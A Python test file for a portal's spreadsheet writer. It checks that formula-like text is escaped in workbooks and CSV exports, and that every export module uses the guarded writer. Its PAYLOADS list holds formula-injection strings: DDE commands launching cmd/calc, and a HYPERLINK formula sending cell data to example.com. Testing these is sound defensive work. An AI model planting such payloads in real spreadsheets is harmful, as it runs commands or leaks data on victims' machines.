"""The one spreadsheet writer (portal.spreadsheets): a text that starts like a formula is
written as text in every workbook and CSV file the portal hands out, and every writer of the
portal goes through it (checked on the source, so a new export cannot skip it)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from portal.spreadsheets import (
    append_row,
    csv_bytes,
    csv_chunks,
    formula,
    starts_like_formula,
    workbook_bytes,
)

ROOT = Path(__file__).resolve().parents[2]

# What an attacker types into a remark, a name or an answer.
PAYLOADS = [
    '=HYPERLINK("http://example.com/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",  # DDE
    '=DDE("cmd";"/C calc";"!A0")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff20SUM(1)",
]
PLAIN = ["Gewoon een opmerking", "Inclusief tassen (2 per laptop)", "3 stuks", "e=mc2", ""]


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_formula_form_is_recognised(text):
    assert starts_like_formula(text)


@pytest.mark.parametrize("value", [*PLAIN, None, 5, -5])
def test_plain_text_and_numbers_are_not(value):
    assert not starts_like_formula(value)


def _reloaded(content: bytes):
    return load_workbook(io.BytesIO(content))


def test_workbook_bytes_guards_every_cell_however_it_was_written():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(PAYLOADS[:3])
    sheet.cell(row=2, column=1, value=PAYLOADS[3])
    sheet["B2"] = PAYLOADS[0]
    other = workbook.create_sheet("Tweede")
    append_row(other, PAYLOADS)
    formula(sheet, row=3, column=1, expression="=SUM(1,2)")
    sheet["B3"] = "Gewoon"
    sheet["C3"] = 7

    reloaded = _reloaded(workbook_bytes(workbook))
    first, second = reloaded.worksheets
    texts = [first["A1"], first["B1"], first["C1"], first["A2"], first["B2"], *second[1]]
    for cell in texts:
        assert cell.data_type == "s" and cell.quotePrefix is True, cell.value
    assert [cell.value for cell in second[1]] == PAYLOADS  # the text itself is kept
    # Only the formula written on purpose stays a formula.
    assert first["A3"].data_type == "f" and first["A3"].value == "=SUM(1,2)"
    assert first["B3"].quotePrefix is False and first["C3"].data_type == "n"


def test_a_formula_from_user_text_is_not_let_through_by_its_coordinate():
    workbook = Workbook()
    sheet, other = workbook.active, workbook.create_sheet("Tweede")
    formula(sheet, row=1, column=1, expression="=1+1")
    other["A1"] = PAYLOADS[0]  # the same coordinate on another sheet
    reloaded = _reloaded(workbook_bytes(workbook))
    assert reloaded["Tweede"]["A1"].data_type == "s"
    with pytest.raises(ValueError):
        formula(sheet, row=2, column=1, expression="1+1")


def test_csv_values_that_start_like_a_formula_get_a_quote():
    content = csv_bytes([["Naam", "Aantal"], *[[text, -3] for text in [*PAYLOADS, *PLAIN]]])
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Naam", "Aantal"]
    for (value, number), text in zip(rows[1:], [*PAYLOADS, *PLAIN], strict=True):
        assert value == (f"'{text}" if text in PAYLOADS else text)
        assert number == "-3"  # a number is not text


def _application_modules():
    for path in sorted(ROOT.glob("*/**/*.py")):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {".venv", "node_modules", ".tools", "benchmarks", "var", "static"}:
            continue
        if "tests" in parts or "migrations" in parts:
            continue
        yield path


def _writer_problems(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(), filename=str(path))
    imports_workbook = uses_writer = False
    problems = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("openpyxl"):
            imports_workbook |= any(alias.name == "Workbook" for alias in node.names)
        if (
            isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            problems.append(f"{path}:{node.lineno} writes CSV without csv_bytes")
        if isinstance(node, ast.Name | ast.alias):
            name = node.id if isinstance(node, ast.Name) else node.name
            uses_writer |= name in {"workbook_bytes", "workbook_file"}
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "save"
            and imports_workbook
        ):
            problems.append(f"{path}:{node.lineno} saves a workbook without workbook_bytes")
    if imports_workbook and not uses_writer:
        problems.append(f"{path} makes a workbook without workbook_bytes")
    return problems


def test_the_check_finds_a_writer_that_skips_the_guard(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text(
        "import csv\nfrom openpyxl import Workbook\n\n"
        "def export(out):\n    wb = Workbook()\n    wb.save(out)\n    csv.writer(out)\n"
    )
    assert len(_writer_problems(bad)) == 3


def test_every_workbook_and_csv_file_of_the_portal_goes_through_the_writer():
    modules = [path for path in _application_modules() if path.name != "spreadsheets.py"]
    assert any(path.name == "download.py" for path in modules)  # the scan sees the apps
    problems = [problem for path in modules for problem in _writer_problems(path)]
    assert problems == []


def test_csv_in_chunks_is_the_same_guarded_file_as_at_once():
    rows = [["naam", "opmerking"]] + [[f"Gemeente {n}", '=HYPERLINK("x")'] for n in range(7)]
    chunks = list(csv_chunks(rows, rows_per_chunk=3))
    assert len(chunks) == 3
    assert b"".join(chunks) == csv_bytes(rows)
    assert b"'=HYPERLINK" in chunks[1] and b",=HYPERLINK" not in b"".join(chunks)


def test_column_styles_and_header_of_a_write_only_sheet(tmp_path):
    """The header is bold (one shared style, a header that starts like a formula still
    guarded); each column's style goes to the values that are there, an empty value stays an
    empty cell, and a row shorter than the styled columns is written as it is."""
    from datetime import date

    from portal.spreadsheets import (
        ColumnStyles,
        header_row,
        workbook_file,
        write_only_sheet,
    )

    workbook = Workbook(write_only=True)
    sheet = write_only_sheet(workbook, "Blad")
    header_row(sheet, ["Naam", "=Aantal", "Datum"], (20, 10, 12))
    styles = ColumnStyles(
        sheet, {2: {"number_format": "#,##0"}, 3: {"number_format": "yyyy-mm-dd"}}
    )
    append_row(sheet, styles.row(["Aadorp", 12000, date(2027, 1, 31)]))
    append_row(sheet, styles.row(["Bedum", None, None]))
    append_row(sheet, styles.row(["Cadorp"]))
    with workbook_file(workbook) as file:
        written = load_workbook(file).active
    header, first, empty, short = list(written.iter_rows())
    assert [cell.value for cell in header] == ["Naam", "=Aantal", "Datum"]
    assert all(cell.font.bold for cell in header)
    assert header[1].data_type == "s" and header[1].quotePrefix
    assert not header[0].quotePrefix
    assert (first[1].value, first[1].number_format) == (12000, "#,##0")
    assert first[2].value.date() == date(2027, 1, 31)
    assert first[2].number_format == "yyyy-mm-dd"
    assert not first[0].font.bold and first[0].number_format == "General"
    assert [cell.value for cell in empty] == ["Bedum", None, None]
    assert short[0].value == "Cadorp" and short[1].value is None
